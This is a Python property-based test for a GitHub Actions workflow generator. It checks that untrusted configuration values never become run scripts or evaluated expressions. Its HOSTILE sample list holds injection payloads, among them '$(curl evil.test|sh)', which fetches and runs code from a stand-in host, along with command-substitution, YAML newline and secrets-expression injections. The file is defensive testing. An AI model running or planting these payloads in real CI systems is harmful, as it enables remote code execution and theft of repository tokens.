"""Whatever stands in the platform file, workflows hold it as text: in no script, and in no expression.

The schema lets most of it pass nowhere near; here the model is filled behind the schema's back.
"""

import re
from dataclasses import replace
from typing import Any

import yaml
from hypothesis import given
from hypothesis import strategies as st

from generator import pipeline, resolve
from generator.model import Ci, Platform
from generator.render import workflows
from tests.effort import effort
from tests.unit.render.workshop import ROOT

PLATFORM: Platform = resolve.platform(pipeline.load(ROOT).documents[pipeline.PLATFORM_FILE])
_EXPRESSION = re.compile(r"\$\{\{(?:'[^']*'|[^'])*?\}\}", re.DOTALL)
HOSTILE = st.one_of(
    st.sampled_from(
        [
            "${{ secrets.GITHUB_TOKEN }}",
            "$(curl evil.test|sh)",
            "`id`",
            '"; id #',
            "a\n    run: id",
            "x' || true || 'y",
            "${{ '${{' }}",
            "}} ${{ github.token",
            "$GITHUB_ENV",
        ]
    ),
    st.text(st.characters(exclude_categories=["Cs"]), max_size=20),
)


def scripts(node: Any) -> list[str]:
    """Every `run` of a workflow."""
    if isinstance(node, list):
        return [text for item in node for text in scripts(item)]
    if not isinstance(node, dict):
        return []
    own = [node["run"]] if isinstance(node.get("run"), str) else []
    return own + [text for item in node.values() for text in scripts(item)]


def texts(platform: Platform) -> dict[str, str]:
    return dict(workflows.files(platform, ["Mark."]))


PLAIN = texts(PLATFORM)
PLAIN_SCRIPTS = {path: scripts(yaml.load(text, yaml.CBaseLoader)) for path, text in PLAIN.items()}


@effort(15)
@given(name=HOSTILE, role=HOSTILE, region=HOSTILE, runner=HOSTILE, branch=HOSTILE, repository=HOSTILE)
def test_no_text_becomes_code(
    name: str, role: str, region: str, runner: str, branch: str, repository: str
) -> None:
    environment = replace(PLATFORM.environments["staging"], name=name, region=region)
    settings_of = {name: {"plan_role": role, "apply_role": role}}
    ci = Ci(runner=runner, branch=branch, repository=repository, environments=settings_of)
    made = texts(replace(PLATFORM, environments={name: environment}, ci=ci))
    for path, text in made.items():
        data = yaml.load(text, yaml.CBaseLoader)
        assert scripts(data) == PLAIN_SCRIPTS[path]
        strange = expressions(data) - expressions(yaml.load(PLAIN[path], yaml.CBaseLoader))
        condition = (
            f"github.ref == {quote(f'refs/heads/{branch}')} && github.repository == {quote(repository)}"
        )
        assert {one for one in strange if one != "${{ '${{' }}" and condition not in one} == set()


def quote(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def expressions(node: Any) -> set[str]:
    """What GitHub would evaluate in the values of a workflow."""
    if isinstance(node, dict):
        return {one for item in node.values() for one in expressions(item)}
    if isinstance(node, list):
        return {one for item in node for one in expressions(item)}
    return set(_EXPRESSION.findall(node))
